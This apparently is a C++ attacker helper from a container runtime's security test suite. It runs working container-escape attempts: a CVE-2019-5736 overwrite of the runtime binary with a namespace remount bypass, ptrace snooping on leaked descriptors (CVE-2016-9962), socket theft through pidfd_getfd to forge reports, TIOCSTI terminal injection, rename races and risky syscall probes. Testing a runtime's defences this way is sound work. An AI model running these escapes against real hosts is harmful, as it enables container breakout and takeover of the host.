// SPDX-License-Identifier: Apache-2.0
// What an attacker runs in a container, or on a folder that he shares with one. Each line that it prints is something
// that he got or was refused; tests/security say which must be which.
//
//   attack exchange A B         exchanges two names, again and again, until it is killed
//   attack own-binary           tries to write into the program of each runtime process that appears, until killed
//   attack watch                tells what each process that appears lets be seen of itself, until it is killed
//   attack forge                takes the sockets of each process that appears, and reports by them, until it is killed
//   attack type                 types into the terminal that is its input
//   attack read FILE            what is in it
//   attack hold                 takes the sockets of each process that appears, and keeps them, until it is killed
//   attack calls                system calls that lead to the kernel's less guarded parts
//   attack writable FOLDER...   files that are for writing and open so, and folders in which one can be made
#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <limits.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <netinet/if_ether.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cctype>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iostream>
#include <set>
#include <string>
#include <string_view>
#include <utility>

namespace {

// Each line once, at once: it is ended by a signal.
void tell(const std::string& line) {
  static std::set<std::string> told;
  if (told.insert(line).second) (void)!::write(1, (line + "\n").data(), line.size() + 1);
}

std::string link_of(const std::string& path) {
  char target[PATH_MAX] = {};
  return ::readlink(path.c_str(), target, sizeof(target) - 1) < 0 ? "" : target;
}

template <typename Use>
void at_processes(Use use) {
  DIR* proc = ::opendir("/proc");
  while (dirent* entry = proc == nullptr ? nullptr : ::readdir(proc)) {
    int pid = std::atoi(entry->d_name);
    if (pid > 0 && pid != ::getpid()) use(pid, "/proc/" + std::string(entry->d_name));
  }
  if (proc != nullptr) ::closedir(proc);
}

[[noreturn]] void exchange(const char* a, const char* b) {
  for (;;) ::syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

// ---- the runtime's own program (CVE-2019-5736)

enum class Outcome : int { kWrote, kRefused, kBusy, kNoNamespace };

// As long as somebody executes it, it is busy; a quarter of a second is long after that.
Outcome write_into(int program) {
  std::string path = "/proc/self/fd/" + std::to_string(program);
  for (int i = 0; i < 2500; ++i) {
    int file = ::open(path.c_str(), O_WRONLY | O_CLOEXEC);
    if (file < 0 && errno == ETXTBSY) {
      ::usleep(100);
      continue;
    }
    bool written = file >= 0 && ::write(file, "owned", 5) == 5;
    if (file >= 0) ::close(file);
    return written ? Outcome::kWrote : Outcome::kRefused;
  }
  return Outcome::kBusy;
}

// With a user and mount namespace of one's own a read-only mount can be made writable, if it is nobody's. It lasts as
// long as the process `runtime`, which is stopped meanwhile.
Outcome unwrap(int program, pid_t runtime) {
  ::kill(runtime, SIGSTOP);
  pid_t pid = ::fork();
  if (pid == 0) {
    if (::unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) ::_exit(int(Outcome::kNoNamespace));
    mount_attr writable{};
    writable.attr_clr = MOUNT_ATTR_RDONLY;
    ::mount_setattr(program, "", AT_EMPTY_PATH, &writable, sizeof(writable));
    int tree = ::open_tree(program, "", AT_EMPTY_PATH | OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
    if (tree >= 0) ::mount_setattr(tree, "", AT_EMPTY_PATH, &writable, sizeof(writable));
    ::kill(runtime, SIGCONT);
    Outcome outcome = write_into(program);
    if (outcome != Outcome::kWrote && tree >= 0) outcome = write_into(tree);
    ::_exit(int(outcome));
  }
  int status = 0;
  ::waitpid(pid, &status, 0);
  ::kill(runtime, SIGCONT);
  return Outcome(WEXITSTATUS(status));
}

[[noreturn]] void take_own_binary() {
  std::set<std::pair<dev_t, ino_t>> ours;
  struct stat info{};
  for (const char* each : {"/proc/self/exe", "/bin/busybox"}) {
    if (::stat(each, &info) == 0) ours.insert({info.st_dev, info.st_ino});
  }
  tell("ready");
  for (;;) {
    at_processes([&](int pid, const std::string& folder) {
      int program = ::open((folder + "/exe").c_str(), O_PATH | O_CLOEXEC);
      struct stat found{};
      if (program < 0) return;
      if (::fstat(program, &found) == 0 && !ours.contains({found.st_dev, found.st_ino})) {
        std::string what = link_of("/proc/self/fd/" + std::to_string(program));
        constexpr const char* kNames[] = {"wrote", "refused", "busy", "no namespace"};
        tell("reached " + what);
        // In turn: what was unwrapped could be written plainly, too.
        static bool unwraps = true;
        unwraps = !unwraps;
        if (unwraps) {
          tell(std::string("unwrapped ") + kNames[int(unwrap(program, pid))]);
        } else {
          tell(std::string("plainly ") + kNames[int(write_into(program))]);
        }
      }
      ::close(program);
    });
  }
}

// ---- what a process that enters the container carries (CVE-2016-9962)

std::string status_field(const std::string& folder, const std::string& name) {
  std::ifstream status(folder + "/status");
  for (std::string line; std::getline(status, line);) {
    if (line.starts_with(name)) return line.substr(line.find('\t') + 1);
  }
  return "";
}

std::string kind_of(const std::string& path) {
  struct stat info{};
  if (::stat(path.c_str(), &info) < 0) return "";
  return S_ISDIR(info.st_mode)    ? "folder"
         : S_ISREG(info.st_mode)  ? "file"
         : S_ISFIFO(info.st_mode) ? "fifo"
         : S_ISSOCK(info.st_mode) ? "socket"
                                  : "device";
}

void tell_descriptors(const std::string& folder) {
  DIR* fds = ::opendir((folder + "/fd").c_str());
  while (dirent* entry = fds == nullptr ? nullptr : ::readdir(fds)) {
    tell("seen");
    std::string path = folder + "/fd/" + entry->d_name, kind = kind_of(path);
    // The first three are what the caller wants it to have.
    if (kind != "" && std::atoi(entry->d_name) > 2) tell(kind + " " + link_of(path));
  }
  if (fds != nullptr) ::closedir(fds);
}

[[noreturn]] void watch() {
  auto own = std::strtoull(status_field("/proc/self", "CapBnd").c_str(), nullptr, 16);
  struct stat root{};
  ::stat("/", &root);
  tell("ready");
  for (;;) {
    at_processes([&](int pid, const std::string& folder) {
      tell_descriptors(folder);
      struct stat other{};
      if (::stat((folder + "/root").c_str(), &other) == 0 &&
          (other.st_dev != root.st_dev || other.st_ino != root.st_ino))
        tell("root of the host's");
      auto has = std::strtoull(status_field(folder, "CapPrm").c_str(), nullptr, 16);
      if ((has & ~own) != 0) tell("capabilities of the host's");
      if (::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) < 0) return;
      tell("attached");
      // Stopped it shows what it has at leisure.
      ::ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
      int status = 0;
      if (::waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) tell_descriptors(folder);
      ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
    });
  }
}

// A launch reports by packets: a kind, a code in four bytes, a text; and descriptors (runtime/launch/launch.h).
void report(int socket, char kind, bool with_descriptor) {
  char text[] = {kind, 0, 0, 0, 0, 'f', 'o', 'r', 'g', 'e', 'd'};
  iovec part{text, sizeof(text)};
  alignas(cmsghdr) char control[CMSG_SPACE(sizeof(int))] = {};
  msghdr message{};
  message.msg_iov = &part;
  message.msg_iovlen = 1;
  int pipe[2] = {-1, -1};
  if (with_descriptor && ::pipe(pipe) == 0) {
    message.msg_control = control;
    message.msg_controllen = sizeof(control);
    cmsghdr* header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof(int));
    std::memcpy(CMSG_DATA(header), &pipe[1], sizeof(int));
  }
  if (::sendmsg(socket, &message, MSG_NOSIGNAL | MSG_DONTWAIT) > 0) tell("forged");
  for (int end : pipe) {
    if (end >= 0) ::close(end);
  }
}

[[noreturn]] void take_sockets(bool keeps) {
  tell("ready");
  for (unsigned turn = 0;;) {
    at_processes([&](int pid, const std::string&) {
      int process = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
      for (int number = 3; process >= 0 && number < 8; ++number) {
        int socket = static_cast<int>(::syscall(SYS_pidfd_getfd, process, number, 0));
        if (socket < 0) continue;
        ++turn;
        if (keeps && turn < 1000 && kind_of("/proc/self/fd/" + std::to_string(socket)) == "socket") {
          tell("held");
          continue;
        }
        if (!keeps) report(socket, static_cast<char>(turn % 4 + 1), turn % 2 == 0);
        ::close(socket);
      }
      if (process >= 0) ::close(process);
    });
  }
}

// ---- what is open to writing

int tell_writable(const char* path, const struct stat* info, int kind, struct FTW*) {
  if (std::string_view(path).starts_with("/proc/") && (std::isdigit(path[6]) != 0)) return FTW_SKIP_SUBTREE;
  if (kind == FTW_D || kind == FTW_DP) {
    std::string made = std::string(path) + "/made-by-an-attacker";
    if (::mkdir(made.c_str(), 0755) == 0) {
      tell("folder " + std::string(path));
      ::rmdir(made.c_str());
    }
  } else if (kind == FTW_F && S_ISREG(info->st_mode) && (info->st_mode & 0222) != 0) {
    int file = ::open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC | O_NOFOLLOW);
    if (file >= 0) tell("file " + std::string(path));
    if (file >= 0) ::close(file);
  }
  return FTW_CONTINUE;
}

// ---- system calls

void tell_call(const char* name, long result) {
  tell(std::string(name) + " " + (result < 0 ? std::strerror(errno) : "done"));
}

void try_calls() {
  auto in_child = [](auto call) {
    pid_t pid = ::fork();
    if (pid == 0) {
      call();
      ::_exit(0);
    }
    ::waitpid(pid, nullptr, 0);
  };
  in_child([] { tell_call("unshare-user", ::unshare(CLONE_NEWUSER)); });
  in_child([] { tell_call("unshare-mount", ::unshare(CLONE_NEWNS)); });
  in_child([] {
    clone_args arguments{};
    arguments.flags = CLONE_NEWUSER;
    arguments.exit_signal = SIGCHLD;
    long pid = ::syscall(SYS_clone3, &arguments, sizeof(arguments));
    if (pid == 0) ::_exit(0);
    tell_call("clone3-user", pid);
  });
  in_child([] {
    long pid = ::syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, nullptr, nullptr, nullptr, nullptr);
    if (pid == 0) ::_exit(0);
    tell_call("clone-user", pid);
  });
  tell_call("fsopen", ::syscall(SYS_fsopen, "tmpfs", 0));
  tell_call("open_tree", ::open_tree(AT_FDCWD, "/", OPEN_TREE_CLONE));
  tell_call("mount", ::mount("tmpfs", "/tmp", "tmpfs", 0, nullptr));
  tell_call("setns", ::setns(::open("/proc/self/ns/uts", O_RDONLY), 0));
  tell_call("keyctl", ::syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
  tell_call("add_key", ::syscall(SYS_add_key, "user", "a", "b", 1, KEY_SPEC_PROCESS_KEYRING));
  bpf_attr bpf{};
  bpf.map_type = BPF_MAP_TYPE_ARRAY;
  bpf.key_size = bpf.value_size = 4;
  bpf.max_entries = 1;
  tell_call("bpf", ::syscall(SYS_bpf, BPF_MAP_CREATE, &bpf, sizeof(bpf)));
  perf_event_attr perf{};
  perf.type = PERF_TYPE_SOFTWARE;
  perf.size = sizeof(perf);
  tell_call("perf_event_open", ::syscall(SYS_perf_event_open, &perf, 0, -1, -1, 0));
  tell_call("userfaultfd", ::syscall(SYS_userfaultfd, 0));
  tell_call("io_uring_setup", ::syscall(SYS_io_uring_setup, 1, nullptr));
  tell_call("raw-socket", ::socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
  tell_call("packet-socket", ::socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)));
}

// ---- the caller's terminal

void type() {
  for (const char* next = "owned\n"; *next != '\0'; ++next) {
    if (::ioctl(0, TIOCSTI, next) == 0) tell("typed");
  }
}

}  // namespace

int main(int argc, char** argv) {
  std::string verb = argc > 1 ? argv[1] : "";
  if (verb == "exchange" && argc == 4) exchange(argv[2], argv[3]);
  if (verb == "own-binary") take_own_binary();
  if (verb == "watch") watch();
  if (verb == "forge" || verb == "hold") take_sockets(verb == "hold");
  if (verb == "calls") return try_calls(), 0;
  if (verb == "type") return type(), 0;
  if (verb == "read" && argc == 3) return std::cout << std::ifstream(argv[2]).rdbuf(), 0;
  if (verb != "writable") return 2;
  for (int i = 2; i < argc; ++i) ::nftw(argv[i], tell_writable, 64, FTW_PHYS | FTW_ACTIONRETVAL);
  return 0;
}
